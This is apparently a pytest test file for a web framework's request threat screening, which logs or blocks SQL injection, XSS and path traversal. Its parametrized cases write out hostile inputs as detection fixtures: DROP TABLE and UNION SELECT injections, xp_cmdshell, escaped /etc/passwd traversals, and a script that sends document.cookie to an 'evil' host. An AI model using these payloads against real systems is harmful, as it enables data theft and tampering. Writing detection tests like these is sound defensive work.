"""Threat signals: injection, XSS and traversal patterns are logged and counted (or blocked); ordinary text is not."""

from __future__ import annotations

import pytest

from golive import App
from golive.testing import TestClient


def make_app(**options) -> App:
    app = App("threats", health_path=None, **options)
    calls = []

    @app.get("/search")
    def search(req):
        calls.append(req.query)
        return {"results": []}

    @app.post("/profiles")
    def update(req):
        calls.append(req.json)
        return {"saved": True}

    @app.get("/files/{name}")
    def files(req, name):
        return {"name": name}

    @app.get("/strict", block_threats=True)
    def strict(req):
        return {"ok": True}

    app.calls = calls
    return app


def _warnings(response):
    return [r for r in response.logs if r["message"] == "suspicious request"]


def _suspicious_count(response):
    return sum(doc.get("SuspiciousRequest", 0) for doc in response.emf)


@pytest.mark.parametrize("query, kind", [
    ("' OR '1'='1", "sql_injection"),
    ("1; DROP TABLE users", "sql_injection"),
    ("x' UNION SELECT password FROM users --", "sql_injection"),
    ("<script>alert(document.cookie)</script>", "xss"),
    ("<img src=x onerror=alert(1)>", "xss"),
    ("javascript:alert(1)", "xss"),
    ("../../etc/passwd", "path_traversal"),
    ("..\\..\\windows\\system32", "path_traversal"),
])
def test_attacks_in_the_query_are_logged_and_counted(query, kind):
    client = TestClient(make_app())
    response = client.get("/search", query={"q": query}, headers={"User-Agent": "sqlmap/1.7"})
    assert response.status == 200  # log mode: the request goes on
    [warning] = _warnings(response)
    assert warning["level"] == "WARN"
    assert {"kind": kind, "location": "query.q"}.items() <= warning["threats"][0].items()
    assert warning["user_agent"] == "sqlmap/1.7" and warning["source_ip"] == "127.0.0.1"
    assert warning["route"] == "GET /search"
    assert _suspicious_count(response) >= 1
    custom = [d for doc in response.emf for d in doc["_aws"]["CloudWatchMetrics"]
              if any(m["Name"] == "SuspiciousRequest" for m in d["Metrics"])]
    assert custom[0]["Dimensions"] == [["service"]]


def test_attacks_nested_in_a_json_body_are_located():
    client = TestClient(make_app())
    response = client.post("/profiles", json={"name": "Ada", "links": [{"url": "javascript:alert(1)"}],
                                              "bio": "<script>steal()</script>"})
    [warning] = _warnings(response)
    found = {(t["kind"], t["location"]) for t in warning["threats"]}
    assert found == {("xss", "body.links[0].url"), ("xss", "body.bio")}
    assert _suspicious_count(response) == 2


def test_an_attack_hidden_behind_json_escapes_is_still_found_in_the_decoded_value():
    client = TestClient(make_app())
    # The raw bytes hold no "<script" and no "../": only the decoded strings do.
    body = '{"name": "Ada", "bio": "\\u003cscript>steal()\\u003c/script>", "file": "\\u002e\\u002e/etc/passwd"}'
    response = client.post("/profiles", body=body, headers={"Content-Type": "application/json"})
    [warning] = _warnings(response)
    assert {(t["kind"], t["location"]) for t in warning["threats"]} == {("xss", "body.bio"),
                                                                       ("path_traversal", "body.file")}


def test_a_clean_json_body_is_not_flagged_even_when_its_keys_would_be():
    client = TestClient(make_app())
    # Keys are not scanned: a key that looks like an attack, with clean values, is no finding.
    response = client.post("/profiles", json={"<script>": "Ada", "drop table": "Lovelace"})
    assert _warnings(response) == [] and response.status == 200


@pytest.mark.parametrize("value, kind", [
    ("/ETC/PASSWD", "path_traversal"),  # the detectors ignore case, so must any shortcut before them
    ("%2E%2E%2Fsecret", "path_traversal"),
    ("1 UNION ALL SELECT card FROM cards", "sql_injection"),
    ("WAITFOR DELAY '0:0:5'", "sql_injection"),
    ("x; EXEC xp_cmdshell 'dir'", "sql_injection"),
    ("pg_sleep(5)", "sql_injection"),
    ("new Image().src='//evil/?'+DOCUMENT.COOKIE", "xss"),
    ("\u017felect name from users where 1", "sql_injection"),  # the long s matches s under IGNORECASE
])
def test_every_detector_fires_in_a_json_string_value(value, kind):
    client = TestClient(make_app())
    response = client.post("/profiles", json={"name": "Ada", "bio": value})
    [warning] = _warnings(response)
    assert (kind, "body.bio") in {(t["kind"], t["location"]) for t in warning["threats"]}


def test_a_plain_text_body_is_scanned_too():
    client = TestClient(make_app())
    response = client.post("/profiles", body="name=x' OR 1=1 --", headers={"Content-Type": "text/plain"})
    assert _warnings(response)[0]["threats"][0]["location"] == "body"


def test_a_body_that_only_looks_like_json_is_scanned_as_text_and_reaches_the_handler():
    app = App("threats", health_path=None)

    @app.post("/notes", public=True)
    def notes(req):
        return {"length": len(req.body)}

    response = TestClient(app).post("/notes", body="{not json <script>", headers={"Content-Type": "text/plain"})
    assert response.status == 200 and response.json() == {"length": 18}
    assert _warnings(response)[0]["threats"][0] == {"kind": "xss", "location": "body", "sample": "<script"}


def test_traversal_in_the_path_is_seen():
    client = TestClient(make_app())
    response = client.get("/files/..%2F..%2Fetc%2Fpasswd")
    assert {t["kind"] for t in _warnings(response)[0]["threats"]} == {"path_traversal"}


def test_block_mode_answers_400_without_calling_the_handler():
    app = make_app(threats="block")
    response = TestClient(app).get("/search", query={"q": "' OR '1'='1"})
    assert response.status == 400
    problem = response.json()
    assert problem["detail"] == "The request contains a disallowed pattern"
    assert problem["errors"] == [{"field": "query.q", "message": "looks like sql_injection"}]
    assert app.calls == []
    assert _warnings(response) and _suspicious_count(response) == 1


def test_a_route_can_block_on_its_own():
    client = TestClient(make_app())
    assert client.get("/strict", query={"q": "<script>x</script>"}).status == 400
    assert client.get("/search", query={"q": "<script>x</script>"}).status == 200


@pytest.mark.parametrize("text", [
    "O'Brien", "select a plan", "Please select the plan that suits you", "rock'n'roll", "Tom & Jerry <3",
    "2 > 1 and 1 < 2", "Union Station", "update: all good", "drop me a line", "ada@example.com",
    "a.b.c", "Where do I find the order from last week?", "D'Angelo's pizza -- best in town", "C:\\Users\\ada",
    "50% off", "..", "version 1.2.3", "I'd like to join", "-- signed, Ada", "what's new?",
])
def test_ordinary_text_is_not_flagged(text):
    client = TestClient(make_app(threats="block"))
    assert client.get("/search", query={"q": text}).status == 200, text
    response = client.post("/profiles", json={"name": text, "bio": text})
    assert response.status == 200, text
    assert not _warnings(response) and _suspicious_count(response) == 0


def test_threat_screening_can_be_switched_off():
    response = TestClient(make_app(threats="off")).get("/search", query={"q": "' OR '1'='1"})
    assert response.status == 200 and not _warnings(response)
    with pytest.raises(ValueError, match="threats must be"):
        App("x", threats="maybe")
